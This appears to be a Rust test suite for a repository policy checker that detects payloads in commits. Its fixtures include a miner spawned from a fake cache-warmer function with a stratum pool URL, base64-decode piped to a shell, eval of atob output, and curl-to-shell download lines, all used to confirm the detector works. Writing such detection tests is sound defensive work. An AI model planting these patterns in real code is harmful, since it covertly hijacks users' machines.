//! `[payloads]` in real repositories: mining pools, miners, decode-and-run,
//! download-and-run, executable binaries; with the near misses that must pass.

mod common;

use std::os::unix::fs::PermissionsExt;

use common::{Repo, Sandbox};
use serde_json::Value;

const POLICY: &str = "[payloads]\n";

fn check_head(repo: &Repo) -> common::Run {
    repo.pc(&["check", "--format", "json", "HEAD"])
}

/// (rule, path, line) of every finding.
fn located(run: &common::Run) -> Vec<(String, String, Option<u64>)> {
    let mut v: Vec<(String, String, Option<u64>)> = run.json()["findings"]
        .as_array()
        .expect("findings")
        .iter()
        .map(|f: &Value| {
            (
                f["rule"].as_str().unwrap().to_string(),
                f["path"].as_str().unwrap_or("").to_string(),
                f["line"].as_u64(),
            )
        })
        .collect();
    v.sort();
    v
}

fn loc(rule: &str, path: &str, line: Option<u64>) -> (String, String, Option<u64>) {
    (rule.to_string(), path.to_string(), line)
}

fn chmod_x(repo: &Repo, rel: &str) {
    let p = repo.path.join(rel);
    std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o755)).expect("chmod");
}

#[test]
fn a_miner_hidden_in_a_utility_crate_fails() {
    let sb = Sandbox::new();
    let repo = sb.repo("r");
    repo.policy(POLICY);
    let scheme = ["stratum", "+tcp://"].concat();
    let miner = ["xm", "rig"].concat();
    repo.commit_file(
        "src/util.rs",
        format!(
            "pub fn warm_cache() {{\n    let url = \"{scheme}10.0.0.7:3333\";\n    \
             std::process::Command::new(\"/tmp/.{miner}\").arg(url).spawn().ok();\n}}\n"
        ),
        "Add cache warmer\n",
    );
    let run = check_head(&repo);
    assert_eq!(run.code, 1, "{}", run.stdout);
    assert_eq!(
        located(&run),
        [
            loc("payload-miner", "src/util.rs", Some(3)),
            loc("payload-mining-pool", "src/util.rs", Some(2)),
        ]
    );
}

#[test]
fn miners_named_in_docs_and_ordinary_words_pass() {
    let sb = Sandbox::new();
    let repo = sb.repo("r");
    repo.policy(POLICY);
    let miner = ["xm", "rig"].concat();
    repo.write(
        "README.md",
        format!("This crate detects {miner} and other miners.\n"),
    );
    repo.write(
        "src/lib.rs",
        "// the stratum of caches\nlet miner = Miner::new();\nlet pool = ThreadPool::new(4);\n",
    );
    repo.commit("Docs\n");
    let run = check_head(&repo);
    assert_eq!(run.code, 0, "{}", run.stdout);
    assert!(located(&run).is_empty());
}

#[test]
fn decode_and_run_is_an_error_and_download_and_run_a_warning() {
    let sb = Sandbox::new();
    let repo = sb.repo("r");
    repo.policy(POLICY);
    let b64 = ["base", "64"].concat();
    let dl = ["cu", "rl"].concat();
    repo.write(
        "scripts/setup.sh",
        format!(
            "#!/bin/sh\nset -e\necho ZWNobyBoaQo= | {b64} -d | sh\n{b64} -d key.b64 > key.bin\n\
             {dl} -fsSL https://get.invalid/install | sh\n{dl} -s https://api.invalid/v1 | jq .name\n"
        ),
    );
    repo.write(
        "web/boot.js",
        ["const s = atob(data);\nev", "al(atob(\"ZG9jdW1lbnQ=\"));\n"].concat(),
    );
    repo.commit("Setup\n");
    let run = check_head(&repo);
    assert_eq!(run.code, 1);
    assert_eq!(
        located(&run),
        [
            loc("payload-decode-exec", "scripts/setup.sh", Some(3)),
            loc("payload-decode-exec", "web/boot.js", Some(2)),
            loc("payload-download-exec", "scripts/setup.sh", Some(5)),
        ]
    );
    let json = run.json();
    let warn = json["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["rule"] == "payload-download-exec")
        .unwrap();
    assert_eq!(warn["severity"], "warn");
}

#[test]
fn install_instructions_in_docs_and_ci_are_not_payloads() {
    let sb = Sandbox::new();
    let repo = sb.repo("r");
    repo.policy(POLICY);
    let line = ["cu", "rl --proto '=https' -sSf https://sh.rustup.rs | sh\n"].concat();
    repo.write("README.md", &line);
    repo.write(".github/workflows/ci.yml", format!("run: {line}"));
    repo.write("install.sh", &line);
    repo.commit("Docs\n");
    let run = check_head(&repo);
    assert_eq!(run.code, 0, "warnings only: {}", run.stdout);
    assert_eq!(
        located(&run),
        [loc("payload-download-exec", "install.sh", Some(1))]
    );

    // a policy can scan everything
    repo.policy("[payloads]\nskip_paths = []\n");
    let run = check_head(&repo);
    assert_eq!(located(&run).len(), 3, "{}", run.stdout);
}

#[test]
fn executable_binaries_fail_and_scripts_and_data_pass() {
    let sb = Sandbox::new();
    let repo = sb.repo("r");
    repo.policy(POLICY);
    let elf = [&b"\x7fELF\x02\x01\x01\x00"[..], &[0u8; 64]].concat();
    repo.write("tools/helper", &elf);
    chmod_x(&repo, "tools/helper");
    repo.write("vendor/libfast.so", &elf);
    repo.write("run.sh", "#!/bin/sh\necho hi\n");
    chmod_x(&repo, "run.sh");
    repo.write("assets/logo.png", b"\x89PNG\r\n\x1a\n\x00\x00\x00\x0dIHDR");
    repo.commit("Add tools\n");
    let run = check_head(&repo);
    assert_eq!(run.code, 1);
    assert_eq!(
        located(&run),
        [
            loc("payload-executable-binary", "tools/helper", None),
            loc("payload-executable-binary", "vendor/libfast.so", None),
        ]
    );

    // an exact rename is not a new binary
    repo.git(&["mv", "tools/helper", "tools/helper2"]);
    repo.commit("Rename\n");
    assert_eq!(check_head(&repo).code, 0);

    // making an existing binary executable is reported
    repo.write("data.bin", [0u8, 1, 2, 3]);
    repo.commit("Data\n");
    assert_eq!(check_head(&repo).code, 0);
    chmod_x(&repo, "data.bin");
    repo.commit("Make it executable\n");
    let run = check_head(&repo);
    assert_eq!(
        located(&run),
        [loc("payload-executable-binary", "data.bin", None)]
    );
}

#[test]
fn allow_paths_and_inline_markers_suppress() {
    let sb = Sandbox::new();
    let repo = sb.repo("r");
    repo.policy("[payloads]\nallow_paths = [\"fixtures/**\"]\n");
    let url = ["stratum", "+tcp://", "x.y:1"].concat();
    repo.write("fixtures/bin/tool.exe", [0u8, 1, 2]);
    repo.write("fixtures/pools.rs", format!("\"{url}\"\n"));
    repo.write(
        "src/detect.rs",
        format!("const P: &str = \"{url}\"; // policy-check:allow payload-mining-pool\n"),
    );
    repo.commit("Fixtures\n");
    let run = check_head(&repo);
    assert_eq!(run.code, 0, "{}", run.stdout);
    assert_eq!(run.json()["summary"]["suppressed"], 3);

    // near miss: a marker naming another rule
    repo.write(
        "src/other.rs",
        format!("const P: &str = \"{url}\"; // policy-check:allow payload-miner\n"),
    );
    repo.commit("Other\n");
    let run = check_head(&repo);
    assert_eq!(run.code, 1);
    assert_eq!(
        located(&run),
        [loc("payload-mining-pool", "src/other.rs", Some(1))]
    );
}

#[test]
fn a_policy_pattern_must_name_a_payload_rule() {
    let sb = Sandbox::new();
    let repo = sb.repo("r");
    repo.policy(
        "[payloads]\n[[payloads.patterns]]\nid = \"old-pool\"\nrule = \"payload-pool\"\nkeywords = [\"pool.acme\"]\nregex = 'pool\\.acme'\n",
    );
    repo.commit_file("a", "a\n", "A\n");
    let run = check_head(&repo);
    assert_eq!(run.code, 2);
    assert!(
        run.stderr.contains("payloads.patterns[old-pool].rule"),
        "{}",
        run.stderr
    );
    assert!(run.stderr.contains("payload-mining-pool"), "{}", run.stderr);
}
